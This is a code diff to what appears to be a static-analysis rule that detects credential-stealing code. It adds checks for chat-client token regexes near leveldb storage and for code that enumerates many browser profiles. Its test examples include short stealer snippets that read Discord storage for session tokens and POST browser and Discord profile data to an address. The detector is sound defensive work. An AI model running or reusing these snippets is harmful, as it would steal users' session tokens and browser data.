@@ -1,6 +1,6 @@
 import { defineRule, step } from '../src/define.js';
 import type { AnyNode, Call, FileContext } from '../src/types.js';
-import { placeOf } from '../src/vocabulary/places.js';
+import { isChatTokenPattern, placeOf, profileOwner } from '../src/vocabulary/places.js';
 
 export default defineRule({
   meta: {
@@ -11,10 +11,12 @@ export default defineRule({
       credentials: 'Reaches for {what}',
       browser: 'Reaches for {what}',
       wallet: 'Reaches for {what}',
+      tokens: 'Looks for the tokens of a chat client in its files',
+      profiles: 'Reaches for the profiles of {count} programs: {what}',
       many: 'Reaches for {count} places that hold other programs’ secrets: {what}',
       online: 'Reaches for {what}, in a file that talks to other machines',
     },
-    bits: { credentials: 2, browser: 5, wallet: 5, many: 9, online: 8 },
+    bits: { tokens: 14, profiles: 11, credentials: 2, browser: 5, wallet: 5, many: 9, online: 8 },
   },
   examples: {
     flags: [
@@ -26,8 +28,24 @@ export default defineRule({
         title: 'browser profiles are listed',
         code: `const fs = require('fs');\nconst dirs = [process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Local Storage/leveldb', process.env.APPDATA + '/discord/Local Storage/leveldb'];\nfor (const dir of dirs) fs.readdirSync(dir);`,
       },
+      {
+        title: 'tokens of a chat client are looked for',
+        code: `const fs = require('fs');\nconst dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nfor (const name of fs.readdirSync(dir)) found.push(...(fs.readFileSync(dir + '/' + name, 'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g) || []));`,
+      },
+      {
+        title: 'profiles of many programs are listed',
+        code: `const roaming = process.env.APPDATA, local = process.env.LOCALAPPDATA;\nconst dirs = [roaming + '/discord', roaming + '/discordptb', local + '/Google/Chrome/User Data', local + '/BraveSoftware/Brave-Browser/User Data', local + '/Yandex/YandexBrowser/User Data', roaming + '/Opera Software/Opera Stable'];\nfetch(address, { method: 'POST', body: collect(dirs) });`,
+      },
     ],
     passes: [
+      {
+        title: 'a linter knows the shape of tokens',
+        code: `exports.patterns = { chat: /[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/, aws: /AKIA[0-9A-Z]{16}/ };`,
+      },
+      {
+        title: 'programs are looked for where they are installed',
+        code: `const fs = require('fs');\nconst base = process.env.PROGRAMFILES;\nexports.find = () => ['/Google/Chrome/Application/chrome.exe', '/Chromium/Application/chrome.exe', '/Vivaldi/Application/vivaldi.exe', '/Yandex/YandexBrowser/Application/browser.exe', '/Microsoft/Edge/Application/msedge.exe'].map(tail => base + tail).find(fs.existsSync);`,
+      },
       { title: 'a project’s own file is read', code: `require('fs').readFileSync('./config.json');` },
       {
         title: 'a browser is started',
@@ -37,6 +55,21 @@ export default defineRule({
   },
   file(context) {
     const places = new Map<string, { readonly kind: string; readonly node: AnyNode }>();
+    const owners = new Map<string, AnyNode>();
+    const pattern = chatTokenPattern(context);
+    // Chat clients keep their sessions in such a database.
+    const store =
+      pattern &&
+      context.nodes('Literal').find(node => /^\.?ldb$|\bleveldb\b/i.test(String(writtenIn(node)).slice(0, 400)));
+    if (pattern && store) {
+      context.report({
+        messageId: 'tokens',
+        chain: [
+          step('source', 'reaches for the chat client’s local storage', context.file, store),
+          step('transform', 'looks for its tokens', context.file, pattern),
+        ],
+      });
+    }
     for (const call of context.named(/^(?:fs|fs-extra|glob|fs\.promises)(?:\.|$)/)) {
       if (/(?:mkdir|write|append|copyFile$)/.test(call.name)) continue;
       for (const text of pathTexts(context, call)) note(text, call.node);
@@ -45,6 +78,14 @@ export default defineRule({
     if (context.calls('network').length > 0)
       for (const node of [...context.nodes('Literal'), ...context.nodes('TemplateLiteral')])
         for (const text of context.textsOf(node)) note(text, node);
+    const [owner] = owners;
+    if (owner && owners.size >= 5) {
+      context.report({
+        messageId: 'profiles',
+        data: { count: owners.size, what: [...owners.keys()].slice(0, 5).join(', ') },
+        chain: [step('source', `reaches for the profile of ${owner[0]}`, context.file, owner[1])],
+      });
+    }
     const [first] = places;
     if (!first) return;
     const [what, { kind, node }] = strongest([...places]) ?? first;
@@ -58,11 +99,27 @@ export default defineRule({
 
     function note(text: string, node: AnyNode): void {
       if (text.length < 5 || text.length > 400) return;
+      const owned = profileOwner(text);
+      if (owned && !owners.has(owned)) owners.set(owned, node);
       const place = placeOf(text);
       if (place && !places.has(place.what)) places.set(place.what, { kind: place.kind, node });
     }
   },
 });
+
+/** The pattern of a chat client's tokens, in a file that has one. */
+function chatTokenPattern({ nodes }: FileContext): AnyNode | undefined {
+  return nodes('Literal').find(node => {
+    const value = writtenIn(node);
+    return typeof value === 'string' && isChatTokenPattern(value);
+  });
+}
+
+/** The text of a literal, or the source of a pattern. */
+function writtenIn(node: AnyNode): unknown {
+  const { regex, value } = node as { regex?: { pattern: string }; value?: unknown };
+  return regex?.pattern ?? value;
+}
 
 function pathTexts(context: FileContext, call: Call): readonly string[] {
   const [path] = call.args;
